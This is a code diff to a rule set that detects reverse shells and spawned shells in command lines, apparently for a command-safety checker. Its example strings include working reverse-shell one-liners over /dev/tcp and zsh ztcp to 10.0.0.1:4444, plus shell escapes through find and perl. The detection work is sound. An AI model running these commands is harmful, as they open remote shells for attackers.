@@ -60,9 +60,12 @@ export const REVERSE_SHELL_RULES: readonly Rule[] = [
     match: (run) =>
       run.redirects.some(
         (redirect) => /^\/dev\/(tcp|udp)\//.test(redirect.target.text) && !isProbe(run, redirect.operator),
-      ) || run.args.some((arg) => /^\/dev\/(tcp|udp)\/./.test(arg) && run.name !== 'echo'),
+      ) ||
+      run.args.some((arg) => /^\/dev\/(tcp|udp)\/./.test(arg) && run.name !== 'echo') ||
+      run.name === 'ztcp',
     examples: {
       hit: [
+        'zmodload zsh/net/tcp; ztcp 10.0.0.1 4444',
         'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1',
         'exec 5<>/dev/tcp/10.0.0.1/1',
         'cat x > /dev/tcp/10.0.0.1/1',
@@ -91,6 +94,22 @@ export const REVERSE_SHELL_RULES: readonly Rule[] = [
     examples: {
       hit: ['bash -i 2>&1 | tee x', 'sh -i <&3 >&3'],
       miss: ['bash -i', 'bash -ic "ls"', 'bash -ic ls | head'],
+    },
+  },
+  {
+    id: 'spawned-shell',
+    severity: 'ask',
+    reason: 'A program that is no shell starts one, which then does what no rule has seen.',
+    commands: ['sh', 'bash', 'zsh', 'dash', 'ksh', 'ash', 'fish'],
+    match: (run) =>
+      run.args.every((arg) => /^-[pil]+$/.test(arg)) &&
+      run.stdin === undefined &&
+      /^(g?find|bfs|fd|fdfind|ip|perl|python[\d.]*|ruby|node|lua|php|[gmn]?awk|tclsh|expect)$/.test(
+        run.wrappers.at(-1) ?? '',
+      ),
+    examples: {
+      hit: ['find . -exec sh \\;', 'find . -name x -ok bash \\;', `perl -e 'exec "/bin/sh"'`, 'ip netns exec x sh'],
+      miss: ['find . -name "*.sh" -exec sh -n {} \\;', 'docker exec -it web bash', 'bash', 'ssh host bash'],
     },
   },
   {
